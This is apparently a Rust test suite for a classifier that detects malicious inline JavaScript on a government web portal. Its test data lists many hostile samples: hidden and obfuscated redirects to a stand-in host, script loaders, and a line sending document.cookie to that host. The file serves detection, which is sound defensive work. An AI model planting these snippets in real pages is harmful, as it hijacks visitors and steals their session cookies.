//! Attack suite for the inline-script classifier (plain, conditional and obfuscated
//! redirects and loaders, event handlers): many variants of each
//! redirect, loader and obfuscation family must be judged malicious, and the benign guards
//! (site-internal navigation, minified libraries, e-mail cloaking, analytics) must pass.

use lachan::sanitize::script::{Verdict, judge};

const ALLOWED: &[&str] = &[
    "portal.example.gov.vn",
    "chinhphu.vn",
    "www.googletagmanager.com",
    "www.google-analytics.com",
];

fn is_foreign(u: &str) -> bool {
    let base = url::Url::parse("https://portal.example.gov.vn/tin-tuc/bai-1.html").unwrap();
    let Ok(url) = base.join(u.trim()) else {
        return true;
    };
    match url.scheme() {
        "http" | "https" => {
            let host = url
                .host_str()
                .unwrap_or("")
                .trim_end_matches('.')
                .to_ascii_lowercase();
            !(ALLOWED.contains(&host.as_str()) || host.ends_with(".gov.vn"))
        }
        "mailto" | "tel" => false,
        _ => true,
    }
}

fn rule(src: &str) -> Option<&'static str> {
    match judge(src, &is_foreign) {
        Verdict::Benign => None,
        Verdict::Malicious { rule, .. } => Some(rule),
    }
}

fn assert_all(cases: &[&str], expected: &[&str]) {
    let failures: Vec<String> = cases
        .iter()
        .filter(|c| !rule(c).is_some_and(|r| expected.contains(&r)))
        .map(|c| format!("{c:?} => {:?}", judge(c, &is_foreign)))
        .collect();
    assert!(
        failures.is_empty(),
        "not caught as {expected:?}:\n{}",
        failures.join("\n")
    );
}

#[test]
fn b1_plain_redirects_in_every_form() {
    assert_all(
        &[
            r#"location = "https://bet.test/""#,
            r#"location.href='https://bet.test/'"#,
            r#"window.location.href = "//bet.test/x";"#,
            r#"location.replace("https://bet.test/")"#,
            r#"location.assign('https://bet.test')"#,
            r#"top.location = 'https://bet.test'"#,
            r#"self.location.href="https://bet.test""#,
            r#"document.location = "https://bet.test""#,
            r#"window.top.location.replace("https://bet.test/?a=1")"#,
            r#"window.open("https://bet.test/", "_self")"#,
            r#"window.open('https://bet.test/','_top');"#,
            r#"location["href"] = "https://bet.test/""#,
            r#"window['location']['href']='https://bet.test'"#,
            r#"location.href = "https://portal.example.gov.vn@bet.test/""#,
            r#"location.href = "https://portal.example.gov.vn.bet.test/""#,
            r#"location.href = "https:\\\\bet.test""#,
            r#"location.href = "/\\bet.test/""#,
            r#"location.href = "HTTPS://BET.TEST./""#,
            r#"var l = window.location; l.href = "https://bet.test";"#,
            r#"var w = window; w.location = "https://bet.test";"#,
            r#"var u = "https://bet.test/"; location.href = u;"#,
            r#"location.href = "https://bet.test/?ref=" + document.referrer"#,
            "location.href = `https://bet.test/${location.pathname}`",
            r#"location.hostname = "bet.test""#,
            r#"location.href = target"#,
            r#"location = "ht" + "tps://" + host"#,
            r#"function go(){ location.replace(u) } var u = "https://fakegov.vn/"; go()"#,
        ],
        &["script.redirect", "script.foreign_host"],
    );
}

#[test]
fn b2_conditional_and_delayed_redirects() {
    assert_all(
        &[
            r#"if(/google|coccoc/.test(document.referrer)) setTimeout(function(){location.replace("https://bet.test/")},3000)"#,
            r#"if(document.cookie.indexOf("v=1")<0){document.cookie="v=1";window.location.href="https://bet.test"}"#,
            r#"if(/Android|iPhone|iPad/i.test(navigator.userAgent)){top.location.href='https://bet.test/m'}"#,
            r#"var r=document.referrer;if(r.indexOf("google")>-1||r.indexOf("bing")>-1){setTimeout(()=>{location="https://bet.test"},1500)}"#,
            r#"if(!document.cookie.match(/wordpress_logged_in/)){navigator.userAgent.match(/Mobile/)&&(location.href="https://bet.test")}"#,
            r#"setTimeout("location.href='https://bet.test'", 2000)"#,
            r#"setInterval('window.location.replace("//bet.test")', 10)"#,
            r#"document.addEventListener("DOMContentLoaded",function(){if(screen.width<800)window.location.assign("https://bet.test/")})"#,
        ],
        &["script.redirect", "script.foreign_host"],
    );
}

#[test]
fn b3_obfuscated_redirects_and_loaders() {
    assert_all(
        &[
            "eval(String.fromCharCode(108,111,99,97,116,105,111,110,61,39,104,116,116,112,115,58,47,47,98,101,116,46,116,101,115,116,39))",
            r#"eval(atob("bG9jYXRpb249J2h0dHBzOi8vYmV0LnRlc3Qn"))"#,
            r#"eval(unescape("%6c%6f%63%61%74%69%6f%6e%3d%27%68%74%74%70%73%3a%2f%2f%62%65%74%2e%74%65%73%74%27"))"#,
            r#"window["\x6c\x6f\x63\x61\x74\x69\x6f\x6e"]="https://bet.test""#,
            r#"window.\u006cocation = "https://bet.test""#,
            r#"window["loc"+"ation"]["hr"+"ef"] = "htt"+"ps://be"+"t.test""#,
            r#"location.href = "tset.teb//:sptth".split("").reverse().join("")"#,
            r#"var a = ["https:", "", "bet.test", ""].join("/"); location = a"#,
            r#"new Function("location.href='https://bet.test'")()"#,
            r#"Function("return this")()["location"] = atob("aHR0cHM6Ly9iZXQudGVzdA==")"#,
            r#"eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('0.1="2://3.4"',5,5,'location|href|https|bet|test'.split('|'),0,{}))"#,
            r#"document.write('<scr'+'ipt src="https://bet.test/a.js"></scr'+'ipt>')"#,
            r#"document.write(unescape('%3Cscript%20src%3D%22https%3A//bet.test/x.js%22%3E%3C/script%3E'))"#,
            r#"document.write('<script src="' + u + '"></script>')"#,
            r#"var s=document.createElement("script");s.src="https://bet.test/x.js";document.head.appendChild(s)"#,
            r#"var s=document.createElement('scr'+'ipt');s.setAttribute('src','//bet.test/x.js');document.body.appendChild(s)"#,
            r#"var s=document.createElement("script");s.src=atob(x);document.head.appendChild(s)"#,
            r#"eval(atob(document.currentScript.getAttribute("data-p")))"#,
            r#"import("https://bet.test/m.js")"#,
            r#"var _0x1=["\x68\x74\x74\x70\x73\x3a\x2f\x2f\x62\x65\x74\x2e\x74\x65\x73\x74"];window[atob("bG9jYXRpb24=")]=_0x1[0]"#,
            r#"setTimeout(atob("bG9jYXRpb249Ii8vYmV0LnRlc3Qi"), 100)"#,
            r#"[]["constructor"]["constructor"](atob("bG9jYXRpb249Ii8vYmV0LnRlc3Qi"))()"#,
        ],
        &[
            "script.redirect",
            "script.loader",
            "script.obfuscated",
            "script.foreign_host",
        ],
    );
}

#[test]
fn b4_handlers_and_javascript_urls() {
    // The rewriter passes handler bodies and `javascript:` URL bodies to the classifier.
    assert_all(
        &[
            r#"this.src='';location='https://bet.test'"#,
            r#"top.location.href='https://bet.test';return false"#,
            r#"window.open('https://bet.test','_self')"#,
            r#"eval(atob('bG9jYXRpb249Ii8vYmV0LnRlc3Qi'))"#,
            r#"fetch("https://bet.test/c?"+document.cookie)"#,
            r#"new Image().src="https://bet.test/p.gif""#,
        ],
        // A beacon or pixel to a foreign host is a request sink (`script.loader`).
        &[
            "script.redirect",
            "script.obfuscated",
            "script.foreign_host",
            "script.loader",
        ],
    );
}

#[test]
fn each_family_has_its_rule_id() {
    assert_eq!(
        rule(r#"location.href="https://bet.test""#),
        Some("script.redirect")
    );
    assert_eq!(
        rule(r#"var s=document.createElement("script");s.src="https://bet.test/x.js""#),
        Some("script.loader")
    );
    assert_eq!(rule(r#"eval(atob(x))"#), Some("script.obfuscated"));
    assert_eq!(
        rule(r#"var links = ["https://bet.test/"];"#),
        Some("script.foreign_host")
    );
}

#[test]
fn benign_scripts_survive() {
    let benign = [
        // site-internal navigation
        r#"function search(q){ location.href = '/tim-kiem?q=' + encodeURIComponent(q); }"#,
        r#"var url = '/tim-kiem?q=' + q; window.location.href = url;"#,
        "location.href = `/tin-tuc?page=${n}`",
        r#"document.getElementById("sel").onchange=function(){ location.href = this.value }"#,
        r#"location.href = this.options[this.selectedIndex].value"#,
        r#"if (top.location != self.location) { top.location = self.location.href; }"#,
        r#"location.href = location.pathname + "?lang=en""#,
        r##"location.reload(); location.hash = "#top"; location.search = "?p=2";"##,
        r#"window.location.href = "https://portal.example.gov.vn/dang-nhap""#,
        r#"location.replace("https://chinhphu.vn/")"#,
        r#"location = "https://moj.gov.vn/van-ban""#,
        r#"window.open("/in-an?id=12", "_blank")"#,
        r#"location.href = "mailto:lienhe@portal.example.gov.vn""#,
        // minified library code that uses fromCharCode, atob and eval for its own work
        r#"function b64d(s){var o="",i=0,c;s=atob(s);for(;i<s.length;i++){c=s.charCodeAt(i);o+=String.fromCharCode(c^1)}return o}"#,
        r#"!function(e){"use strict";var t=function(n){return String.fromCharCode.apply(null,n)};e.utf8=t}(window);"#,
        r#"parseJSON:function(d){return window.JSON&&window.JSON.parse?window.JSON.parse(d):(new Function("return "+d))()}"#,
        r#"globalEval:function(t){t&&/\S/.test(t)&&(window.execScript||function(t){window.eval.call(window,t)})(t)}"#,
        r#"var g=Function("return this")();var img=atob(data.thumb);"#,
        r##"var ns="http://www.w3.org/2000/svg",el=document.createElementNS(ns,"svg");el.setAttributeNS("http://www.w3.org/1999/xlink","href","#i")"##,
        r#"a=a.replace(/\\x([0-9a-f]{2})/gi,function(m,h){return String.fromCharCode(parseInt(h,16))});var r = 10 / 2 / 5;"#,
        r#"setTimeout(function(){ document.body.className += " loaded"; }, 300)"#,
        // Joomla e-mail cloaking
        r#"document.getElementById('cloak1').innerHTML = ''; var prefix = '&#109;a' + 'i&#108;' + '&#116;o'; var path = 'hr' + 'ef' + '='; var addy1 = 'lienhe' + '&#64;'; addy1 = addy1 + 'portal' + '&#46;' + 'example' + '&#46;' + 'gov' + '&#46;' + 'vn'; var addy_text1 = 'lienhe' + '&#64;' + 'portal' + '&#46;' + 'example' + '&#46;' + 'gov' + '&#46;' + 'vn';document.getElementById('cloak1').innerHTML += '<a ' + path + '\'' + prefix + ':' + addy1 + '\'>'+addy_text1+'<\/a>';"#,
        // analytics snippets (their hosts are on this site's allow list)
        r#"(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-ABC123');"#,
        r#"(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');ga('create', 'UA-1-1', 'auto');ga('send', 'pageview');"#,
        r#"window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments);} gtag('js', new Date()); gtag('config', 'G-XYZ');"#,
        // comments and regexes mentioning foreign things are not code
        r#"// location.href = "https://bet.test"
        var re = /https:\/\/bet\.test/; /* document.write('<script src=//bet.test>') */ var x = 1;"#,
    ];
    let failures: Vec<String> = benign
        .iter()
        .filter_map(|s| match judge(s, &is_foreign) {
            Verdict::Benign => None,
            v => Some(format!("{s:?} => {v:?}")),
        })
        .collect();
    assert!(
        failures.is_empty(),
        "benign scripts judged malicious:\n{}",
        failures.join("\n")
    );
}

#[test]
fn hostile_input_never_panics_and_stays_bounded() {
    // Nesting deeper than the analyzer follows is judged, not waved through.
    let deep = "eval(atob(\"".repeat(50) + &"\"))".repeat(50);
    assert_eq!(rule(&deep), Some("script.obfuscated"));
    // Work grows with the input, not faster: ten times the text costs far less than a
    // hundred times the time (a quadratic scan would).
    let cost = |n: usize| {
        let src = "x=a+b;".repeat(n) + "location.href='https://bet.test/';";
        let started = std::time::Instant::now();
        assert_eq!(rule(&src), Some("script.redirect"), "at {n} statements");
        started.elapsed()
    };
    let (small, large) = (cost(2_000), cost(20_000));
    assert!(
        large < small * 40 + std::time::Duration::from_millis(50),
        "2,000 statements: {small:?}; 20,000: {large:?}"
    );
    let odd = [
        "\\",
        "'",
        "`${",
        "/[/",
        "\\u{110000}",
        "\\x",
        "0x",
        "a[",
        "location.",
        "eval(",
        "String.fromCharCode(1e99,-1)",
    ];
    for s in odd {
        let _ = judge(s, &is_foreign);
    }
    let long = "a+".repeat(100_000);
    assert_eq!(judge(&long, &is_foreign), Verdict::Benign);
}

#[test]
fn random_token_soup_never_panics() {
    const PIECES: &[&str] = &[
        "location",
        "window",
        ".",
        "[",
        "]",
        "(",
        ")",
        "{",
        "}",
        "=",
        "==",
        "+",
        ",",
        ";",
        "\"",
        "'",
        "`",
        "${",
        "\\x6c",
        "\\u006c",
        "\\u{6c}",
        "atob",
        "eval",
        "Function",
        "String",
        "fromCharCode",
        "split",
        "reverse",
        "join",
        "replace",
        "concat",
        "href",
        "open",
        "_self",
        "document",
        "write",
        "createElement",
        "script",
        "src",
        "setAttribute",
        "function",
        "var",
        "x",
        "1",
        "0x41",
        "/",
        "/*",
        "*/",
        "//",
        "<!--",
        "\n",
        " ",
        "https://bet.test/",
        "\"https://bet.test\"",
        "'/tim-kiem?q='",
        "import",
        "this",
        "?.",
    ];
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    // Pieces that can neither navigate, load, decode nor name a host.
    const INERT: &[&str] = &["x", "1", " ", "\n", ";", ",", "+", "=", "(", ")", "[", "]"];
    let mut malicious = 0;
    for _ in 0..3000 {
        let len = (next() % 40) as usize;
        let picks: Vec<&str> = (0..len)
            .map(|_| PIECES[(next() % PIECES.len() as u64) as usize])
            .collect();
        let src = picks.concat();
        let verdict = judge(&src, &is_foreign);
        assert_eq!(
            verdict,
            judge(&src, &is_foreign),
            "not deterministic: {src:?}"
        );
        if let Verdict::Malicious { rule, .. } = &verdict {
            malicious += 1;
            assert!(rule.starts_with("script."), "{rule} for {src:?}");
            assert!(
                !picks.iter().all(|p| INERT.contains(p)),
                "inert soup judged {rule}: {src:?}"
            );
        }
        // A redirect stated in full before the soup is still found, whatever follows.
        let prefixed = format!("location.href='https://bet.test/';\n{src}");
        assert!(
            matches!(judge(&prefixed, &is_foreign), Verdict::Malicious { .. }),
            "redirect hidden by {src:?}"
        );
    }
    assert!(malicious > 0, "the soup never once looked malicious");
}
